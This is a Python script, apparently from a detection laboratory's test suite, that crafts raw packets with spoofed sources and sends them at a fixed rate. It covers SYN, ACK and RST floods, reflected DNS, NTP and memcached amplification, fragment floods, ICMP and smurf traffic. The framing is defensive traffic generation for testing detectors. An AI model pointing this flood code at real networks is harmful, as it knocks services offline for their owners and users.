#!/usr/bin/env python3
"""Attacks that no tool at hand sends, frame by frame, for the detection laboratory: run inside a namespace of the tests'
own, at a fixed rate for a fixed time.

    attacks.py KIND INTERFACE DESTINATION_MAC TARGET --rate N --seconds S

TARGET is an address, or a prefix over which the frames are spread. Prints how many frames it sent.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ipv4(protocol, source, target, payload, fragment=0x4000, number=0):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), number, fragment, 61, protocol, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp(source, target, source_port, port, flags):
    head = struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), 0, 0x50, flags, 512, 0, 0)
    total = checksum(source + target + struct.pack("!HH", 6, len(head)) + head)
    return ipv4(6, source, target, head[:16] + struct.pack("!H", total) + head[18:])


def udp(source_port, port, size):
    return struct.pack("!HHHH", source_port, port, 8 + size, 0) + random.randbytes(size)


def anybody():
    return bytes([random.choice((5, 23, 45, 77, 91, 103, 151, 185, 203)), *random.randbytes(3)])


REFLECTORS = [anybody() for _ in range(200)]
BOTS = [bytes([198, 18, i >> 8, i & 255]) for i in range(50)]
KINDS = {
    "syn": lambda t, i: tcp(anybody(), t, random.randint(1024, 65535), 80, 2),
    "syn_ports": lambda t, i: tcp(anybody(), t, random.randint(1024, 65535), random.randint(1, 65535), 2),
    "syn_bots": lambda t, i: tcp(BOTS[i % len(BOTS)], t, 1024 + i % 60000, 80, 2),
    "ack": lambda t, i: tcp(anybody(), t, random.randint(1024, 65535), 80, 16),
    "rst": lambda t, i: tcp(anybody(), t, random.randint(1024, 65535), 80, 4),
    "synack": lambda t, i: tcp(REFLECTORS[i % 200], t, 443, random.randint(1024, 65535), 18),
    "udp": lambda t, i: ipv4(17, anybody(), t, udp(random.randint(1024, 65535), 4433, 64)),
    "udp_ports": lambda t, i: ipv4(17, BOTS[0], t, udp(4000, random.randint(1, 65535), 400)),
    "dns": lambda t, i: ipv4(17, REFLECTORS[i % 200], t, udp(53, 40000 + i % 20, 1200)),
    "ntp": lambda t, i: ipv4(17, REFLECTORS[i % 200], t, udp(123, 80, 440)),
    "memcached": lambda t, i: ipv4(17, REFLECTORS[i % 200], t, udp(11211, 80, 1400)),
    "fragments": lambda t, i: ipv4(17, anybody(), t, random.randbytes(1000), 0x2000 | 185, i & 65535),
    "tiny_fragments": lambda t, i: ipv4(17, BOTS[0], t, udp(4000, 80, 8) if i % 60 == 0 else random.randbytes(16),
                                              0x2000 | (i % 60 * 2), i // 60 & 65535),
    "gre": lambda t, i: ipv4(47, anybody(), t, b"\0\0\x08\0" + random.randbytes(100)),
    "icmp": lambda t, i: ipv4(1, anybody(), t, b"\x08\0" + struct.pack("!H", checksum(b"\x08\0\0\0" + struct.pack("!HH", 7, i & 65535) + bytes(32)))
                              + struct.pack("!HH", 7, i & 65535) + bytes(32)),
    "smurf": lambda t, i: ipv4(1, REFLECTORS[i % 200], t, b"\0\0\xff\xff" + struct.pack("!HH", 7, i & 65535) + bytes(32)),
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("interface")
    parser.add_argument("mac")
    parser.add_argument("target")
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--pulse", type=float, default=0, help="so many seconds on, as many off")
    options = parser.parse_args()
    hosts = [host.packed for host in ipaddress.ip_network(options.target, strict=False)]
    ethernet = bytes.fromhex(options.mac.replace(":", "")) + bytes.fromhex("020000000002") + b"\x08\0"
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((options.interface, 0))
    # Made before the clock starts, so that the rate is the sender's alone.
    frames = [ethernet + KINDS[options.kind](hosts[i % len(hosts)], i) for i in range(min(int(options.rate * options.seconds), 60000))]
    sent, start = 0, time.monotonic()
    while (elapsed := time.monotonic() - start) < options.seconds:
        if options.pulse and int(elapsed / options.pulse) % 2:
            time.sleep(0.01)
            continue
        due = int(elapsed * options.rate) if not options.pulse else sent + max(1, options.rate // 500)
        while sent < due:
            sender.send(frames[sent % len(frames)])
            sent += 1
        time.sleep(0.002)
    print(sent)


if __name__ == "__main__":
    main()
